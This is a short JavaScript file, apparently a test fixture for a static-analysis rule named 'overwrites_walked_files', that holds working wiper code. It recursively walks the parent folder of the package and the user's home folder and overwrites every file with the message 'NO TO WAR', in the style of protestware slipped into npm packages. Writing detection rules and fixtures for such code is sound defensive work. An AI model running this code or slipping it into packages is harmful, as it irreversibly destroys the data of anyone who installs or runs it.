// Every file of the folders around the package and of the home folder overwritten with one message.
const fs = require('fs');
const p = require('path');
const M = 'NO TO WAR';
function walk(dir) {
  // ruleid: overwrites_walked_files
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const f = p.join(dir, e.name);
    if (e.isDirectory()) walk(f);
    else fs.writeFileSync(f, M);
  }
}
[p.resolve('../'), require('os').homedir()].forEach(walk);
